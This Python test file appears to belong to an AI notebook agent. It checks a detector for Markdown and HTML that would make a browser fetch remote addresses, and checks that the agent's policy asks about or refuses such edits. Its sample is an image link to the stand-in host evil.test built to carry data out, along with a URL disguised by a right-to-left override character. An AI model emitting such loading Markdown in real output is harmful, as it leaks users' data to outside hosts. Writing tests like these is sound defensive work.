"""What Markdown would make a browser load, and that nothing of it comes unasked."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from cpu_time import quick

from cellwright.agent.policy import Policy, assess, decide
from cellwright.notebooks.memory import MemoryNotebook
from cellwright.record.outputs import Cell
from cellwright.settings import Mode
from cellwright.text.browser_loads import browser_loads
from cellwright.tools.cell_running import SeenCells
from cellwright.tools.notebook import AddCell, EditCell

EXAMPLES: dict[str, list[str]] = json.loads(
    (Path(__file__).parents[1] / "js/test/markdown/loads.json").read_text("utf-8")
)
"""The same as the panel's own check has."""
IMAGE = "![Chart](http://evil.test/chart.png?of=everything)"


@pytest.mark.parametrize("markdown", EXAMPLES["loads"])
def test_every_form_that_loads_is_found(markdown: str) -> None:
    assert browser_loads(markdown)
    if not markdown.startswith("---"):
        assert browser_loads(f"> - before {markdown}")


@pytest.mark.parametrize("markdown", EXAMPLES["harmless"])
def test_what_loads_nothing_is_not_asked_about(markdown: str) -> None:
    assert browser_loads(markdown) == ()


@pytest.mark.parametrize(
    ("markdown", "addresses"),
    [
        (IMAGE, ("http://evil.test/chart.png?of=everything",)),
        (f"{IMAGE}\n{IMAGE}", ("http://evil.test/chart.png?of=everything",)),
        ("![x][r]\n\n[r]: <//evil.test/a b.png>", ("//evil.test/a b.png",)),
        (
            '<video poster="http://a.test/p" src="http://b.test/v">',
            ("http://a.test/p", "http://b.test/v"),
        ),
        ("![x](http://evil.test/\u202egnp)", ("http://evil.test/\\u202egnp",)),
    ],
)
def test_addresses_are_told_in_full_and_nothing_hides_in_them(
    markdown: str, addresses: tuple[str, ...]
) -> None:
    assert browser_loads(markdown) == addresses


@pytest.mark.parametrize(
    "piece",
    ["<a", "<a x=", "<img src=", "[", "![x](", "url(", "![a][", "[r]: ", "<b style=", "\n\n```\na"],
)
def test_no_text_makes_the_search_slow(piece: str) -> None:
    quick(lambda: browser_loads(f"![{piece * 30_000}"), 2)


def notebook(cell_type: str) -> MemoryNotebook:
    return MemoryNotebook((Cell("c", cell_type, "x"),))  # type: ignore[arg-type]


@pytest.mark.parametrize("mode", ["ask", "edits", "auto"])
def test_it_is_asked_about_in_every_mode_and_refused_where_nobody_can_be_asked(mode: Mode) -> None:
    assessment = assess(AddCell(SeenCells()), {"source": IMAGE})
    assert decide(mode, assessment, trusted=True).kind == "ask"
    assert "http://evil.test/chart.png?of=everything" in assessment.reason
    refused = decide(mode, assessment, someone=False)
    assert refused.kind == "refuse"
    assert "http://evil.test/chart.png" in refused.reason


def test_only_markdown_is_looked_into() -> None:
    policy = Policy("edits")
    code = {"source": f"show('{IMAGE}')", "cell_type": "code"}
    assert policy.decide(AddCell(SeenCells()), code).kind == "allow"
    edit = {"cell_id": "c", "source": IMAGE}
    assert policy.decide(EditCell(SeenCells()), edit, notebook("code")).kind == "allow"
    assert policy.decide(EditCell(SeenCells()), edit, notebook("markdown")).kind == "refuse"
